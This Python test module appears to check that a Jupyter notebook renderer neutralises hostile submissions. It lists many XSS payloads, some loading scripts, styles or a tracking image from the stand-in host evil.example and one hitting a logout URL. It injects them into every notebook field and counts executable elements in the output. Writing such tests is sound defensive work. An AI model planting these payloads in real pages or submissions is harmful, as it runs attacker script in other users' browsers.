"""What a submission could hold to act in the page of who opens it, and a look for anything that acts in a page."""

import copy
from collections import Counter
from html.parser import HTMLParser

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=\nalert(1)\n>",
    '<img src="x" alt="`" onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>click</text></a></svg>",
    "<math><maction actiontype='statusline#' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<body onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='javascript:alert(1)'><button>go</button></form>",
    "<button formaction='javascript:alert(1)' form=x>go</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<details/open/ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>",
    "<details><summary>x</summary><img src=x onerror=alert(1)></details>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</div></body><script>alert(1)</script>",
    "</pre></div><img src=x onerror=alert(1)>",
    "</textarea></title></style><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "\"><script>alert(1)</script>",
    "'\"`><img src=x onerror=alert(1)>",
    "x\" onmouseover=\"alert(1)",
    "x' autofocus onfocus='alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\tjavascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]:\n  <javascript:alert(1)>\n\n[click][x]",
    "[x](https://e.example\"onmouseover=\"alert(1))",
    "[x](https://e.example 'a\" onmouseover=\"alert(1)')",
    "![x](javascript:alert(1))",
    "![x\"onerror=\"alert(1)](x)",
    "![x](https://evil.example/who-looks.png)",
    "![x](/hub/logout)",
    "![x](attachment:x.svg)",
    "<javascript:alert(1)>",
    "<https://e.example/\"onclick=alert(1)>",
    "```mermaid\n<img src=x onerror=alert(1)>\n```",
    "~~~ mermaid\n%%{init: {'securityLevel':'loose'}}%%\ngraph TD; A-->B; click A \"javascript:alert(1)\"\n~~~",
    "```\"><script>alert(1)</script>\nx\n```",
    "`<script>alert(1)</script>`",
    "`` ` ``<img src=x onerror=alert(1)>`",
    "$<img src=x onerror=alert(1)>$",
    "$$\\href{javascript:alert(1)}{x}$$",
    "$\\require{bbox}\\bbox[background:url(javascript:alert(1))]{x}$",
    "\\begin{equation}</script><script>alert(1)</script>\\end{equation}",
    "\\<script>alert(1)</script>",
    "\\\\<img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>\n",
    "| <svg/onload=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "x\n: <script>alert(1)</script>",
    "- [ ] <img src=x onerror=alert(1)>",
    "<sc\x00ript>alert(1)</sc\x00ript>",
    "<\x00script>alert(1)</script>",
    "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07",
    "\x1b[31m<script>alert(1)</script>\x1b[0m",
    "\x1b[31m\x1b[\"onmouseover=\"alert(1)mred",
    "<a href=files/../../api onclick=alert(1)>x</a>",
]  # fmt: skip

#: Elements that can run, load, send or cover something.
TAGS = {"script", "iframe", "object", "embed", "form", "meta", "base", "link", "style", "svg", "math", "applet", "frame", "frameset",
        "input", "button", "textarea", "select", "video", "audio", "source", "template", "noscript", "marquee", "body", "head",
        "html", "title", "img", "a", "area", "dialog", "portal"}  # fmt: skip
SCHEMES = ("javascript:", "data:", "vbscript:", "blob:", "file:")
PICTURE = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def hostile(text: str) -> dict:
    """Return a notebook that holds a text wherever a notebook can hold one."""
    nbgrader = {
        "schema_version": 3,
        "grade": True,
        "solution": True,
        "locked": False,
        "points": 1,
        "score": 0,
    }
    settings = {"nbgrader": nbgrader | {"grade_id": "why"}, text: text, "tags": [text]}
    kinds = ("text/html", "application/javascript", "image/svg+xml", "text/markdown", "text/latex",
             "application/pdf", "application/vnd.jupyter.widget-view+json", "image/png", "image/jpeg",
             "text/vnd.mermaid", "application/json", text)  # fmt: skip
    outputs = [
        {"output_type": "display_data", "data": {kind: text}, "metadata": {kind: {"alt": text}}}
        for kind in kinds
    ]
    outputs += [
        {
            "output_type": "display_data",
            "data": {"image/png": PICTURE, "text/html": text, "text/plain": text},
            "metadata": {"image/png": {"alt": text, "width": text, "height": text}, "filenames": {"image/png": text}},
        },
        {"output_type": "execute_result", "data": {"text/plain": text}, "metadata": {text: text}, "execution_count": 1},
        {"output_type": "stream", "name": "stdout", "text": text},
        {"output_type": "stream", "name": "stderr", "text": [text]},
        {"output_type": "stream", "name": text, "text": text},
        {"output_type": "error", "ename": text, "evalue": text, "traceback": [text, text]},
        {"output_type": text, "data": {"text/html": text}, "text": text},
    ]  # fmt: skip
    attachments = {"x.svg": {"image/svg+xml": text, "text/html": text}}
    cells = [
        {"cell_type": "markdown", "source": text, "metadata": settings, "attachments": attachments, "id": text},
        {"cell_type": "markdown", "source": f"before {text} after", "metadata": {}, "id": "b"},
        {"cell_type": "markdown", "source": f"> 1. - {text}\n\n<details><summary>Hint</summary>\n\n{text}\n</details>", "metadata": {}},
        {"cell_type": "raw", "source": text, "metadata": {"raw_mimetype": "text/html", "format": text}},
        {"cell_type": "code", "source": text, "metadata": {"magics_language": text, "alt": text}, "outputs": outputs, "execution_count": text},
        {"cell_type": "markdown", "source": "x", "metadata": {"nbgrader": nbgrader | {"grade_id": text}}},
        {"cell_type": "markdown", "source": "x", "metadata": {"nbgrader": nbgrader | {"grade_id": "p", "points": text, "comment": text}}},
        {"cell_type": text, "source": text, "metadata": {}},
    ]  # fmt: skip
    widgets = {"application/vnd.jupyter.widget-state+json": {"state": {text: text}}}
    metadata = {
        "title": text,
        "widgets": widgets,
        "kernelspec": {"name": text, "display_name": text, "language": text},
        "language_info": {"name": text, "pygments_lexer": text, "codemirror_mode": text, "version": text},
    }  # fmt: skip
    return copy.deepcopy({"cells": cells, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5})


class Acting(HTMLParser):
    """Counts what can act in a page: certain elements, handlers, addresses; and ids, which scripts look for."""

    def __init__(self, page: str):
        super().__init__(convert_charrefs=True)
        self.found: Counter = Counter()
        self.ids: Counter = Counter()
        self.open: Counter = Counter()
        self.feed(page)
        self.close()

    def handle_endtag(self, tag):
        self.open[tag] -= 1
        if self.open[tag] < 0 and tag not in ("details", "summary"):
            self.found[f"</{tag}> of nothing"] += 1

    def handle_starttag(self, tag, attrs):
        self.open[tag] += 1
        attrs = {name: value or "" for name, value in attrs}
        if "cell" in attrs.get("class", "").split():
            self.found[f"a cell {self.open['div']} deep"] += 1
        self.ids.update([attrs["id"]] if "id" in attrs else [])
        plain_link = tag == "a" and attrs.get("href", "").startswith(("http://", "https://", "#"))
        picture = tag == "img" and attrs.get("src", "").startswith("data:image/png;base64,")
        box = (
            tag == "input" and attrs.get("type") == "checkbox" and "disabled" in attrs
        )  # of a task list
        if tag in TAGS and not plain_link and not picture and not box:
            self.found[tag] += 1
        for name, value in attrs.items():
            squeezed = "".join(char for char in value.lower() if char > " ")
            if name.startswith("on"):
                self.found[f"{tag} {name}"] += 1
            if squeezed.startswith(SCHEMES) and not picture:
                self.found[f"{tag} {name}={squeezed[:20]}"] += 1
